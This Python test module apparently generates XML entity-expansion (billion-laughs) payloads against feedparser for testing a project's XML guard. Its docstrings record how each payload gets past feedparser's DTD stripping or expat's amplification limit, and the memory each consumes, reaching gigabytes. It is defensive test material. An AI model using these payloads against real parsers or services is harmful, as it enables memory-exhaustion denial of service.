"""Entity-expansion attacks on feedparser, generated (no fixtures): what each would do without
reader.core.xml_guard is in its docstring, as measured on main under RLIMIT_AS=2 GiB.

Parse these only in a subprocess under a memory limit (tests/core/test_parsing_limits.py), or
hand them to ``entity_problem``, which sizes entities without expanding them.
"""

from __future__ import annotations

from collections.abc import Callable


def rss(prolog: str, items: str, tail: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}\n<rss version="2.0"><channel>'
        f"<title>T</title>{items}</channel></rss>{tail}"
    )


def item(description: str, title: str = "t", guid: str = "g") -> str:
    return (
        f"<item><guid>{guid}</guid><title>{title}</title>"
        f"<description>{description}</description></item>"
    )


def big_dtd(size: int = 30_000, name: str = "big") -> str:
    return f'<!DOCTYPE rss [\n<!ENTITY {name} "' + "A" * size + '">\n]>'


def nest(levels: int, fan: int = 10) -> str:
    """Billion-laughs declarations, l0 … l<levels>, behind an entity whose value holds "<b":
    feedparser's DTD stripping stops at the first "<" + letter, so this DTD reaches expat."""
    decls = ['<!ENTITY lt2 "<b>">', '<!ENTITY l0 "lol">']
    decls += [f'<!ENTITY l{i} "' + f"&l{i - 1};" * fan + '">' for i in range(1, levels + 1)]
    return "<!DOCTYPE rss [" + "".join(decls) + "]>"


def pad(size: int) -> str:
    """A comment before the DTD: expat allows ~40 times the bytes it has read."""
    return "<!--" + "x" * size + "-->"


def one_entity_many_refs() -> bytes:
    """Well-formed: expat's own amplification limit trips, and feedparser re-reads the feed
    with its loose parser, which expands all of it: 54 KB → a 150 MB article, 460 MB, 4.7 s."""
    return rss(big_dtd(), item("&big;" * 5_000)).encode()


def one_entity_many_refs_huge() -> bytes:
    """The same at 418 KB: 9 GB if expanded; took all 24 GB of the machine without a limit
    (MemoryError under the limit)."""
    return rss(big_dtd(233_000), item("&big;" * 39_000)).encode()


def broken_markup() -> bytes:
    """A well-formedness error too (an unclosed tag after the root): 150 MB, 461 MB, 4.7 s."""
    return rss(big_dtd(), item("&big;" * 5_000), tail="<oops>").encode()


def declared_after_broken_markup() -> bytes:
    """Declarations outside any DTD, after a broken comment: feedparser moves them into a
    DOCTYPE of its own for the loose parser. 150 MB, 452 MB, 4.6 s."""
    prolog = '<!DOCTYPE rss>\n<!-- a -- b -->\n<!ENTITY big "' + "A" * 30_000 + '">'
    return rss(prolog, item("&big;" * 5_000)).encode()


def in_titles() -> bytes:
    """References in a title (cut to 1,000 characters only after expanding): 460 MB, 2.2 s."""
    return rss(big_dtd(), item("x", title="&big;" * 5_000)).encode()


def without_semicolons() -> bytes:
    """sgmllib reads "&big&big" as two references: 150 MB, 452 MB, 5.3 s."""
    return rss(big_dtd(), item("&big&big" * 2_500 + "<b>")).encode()


def junk_after_a_plain_entity() -> bytes:
    """`<!ENTITY a "x" big "...">`: expat refuses it, feedparser's pattern finds two plain
    entities in it for the loose parser. 150 MB, 452 MB, 4.7 s."""
    prolog = '<!DOCTYPE rss [\n<!ENTITY a "x" big "' + "A" * 30_000 + '">\n]>'
    return rss(prolog, item("&big;" * 5_000)).encode()


def nested_within_expat_limit() -> bytes:
    """Nested entities in a DTD expat gets whole, under its amplification limit: the strict
    parser itself makes a 90 MB article of a 2.9 MB feed, 376 MB, 4.6 s, and no warning."""
    return rss(pad(3_000_000) + nest(6), item("&l6;" * 30)).encode()


def nested_in_attributes() -> bytes:
    """The same in attribute values (expat expands them; feedparser keeps them): 126 MB."""
    encl = "".join(f'<enclosure url="https://e.org/{k}" type="&l6;"/>' for k in range(30))
    items = f"<item><guid>g</guid><title>t</title><link>https://e.org/</link>{encl}</item>"
    return rss(pad(3_000_000) + nest(6), items).encode()


def parameter_entity() -> bytes:
    """A parameter entity declares the big one, under expat's limit: a 3 MB article of a
    158 KB feed, through the strict parser."""
    pe = "<!ENTITY big '" + "A" * 10_000 + "'>"
    prolog = pad(150_000) + f'<!DOCTYPE rss [<!ENTITY lt2 "<b>"><!ENTITY % pe "{pe}">%pe;]>'
    return rss(prolog, item("&big;" * 300)).encode()


def utf16() -> bytes:
    """one_entity_many_refs in UTF-16 with a BOM: 150 MB, 461 MB, 4.7 s."""
    text = one_entity_many_refs().decode().replace('encoding="utf-8"', 'encoding="utf-16"')
    return text.encode("utf-16")


def utf16_without_bom() -> bytes:
    """The same, little-endian without a BOM (feedparser sniffs it)."""
    text = one_entity_many_refs().decode().replace('encoding="utf-8"', 'encoding="utf-16"')
    return text.encode("utf-16-le")


ATTACKS: dict[str, Callable[[], bytes]] = {
    f.__name__: f
    for f in (
        one_entity_many_refs,
        one_entity_many_refs_huge,
        broken_markup,
        declared_after_broken_markup,
        in_titles,
        without_semicolons,
        junk_after_a_plain_entity,
        nested_within_expat_limit,
        nested_in_attributes,
        parameter_entity,
        utf16,
        utf16_without_bom,
    )
}
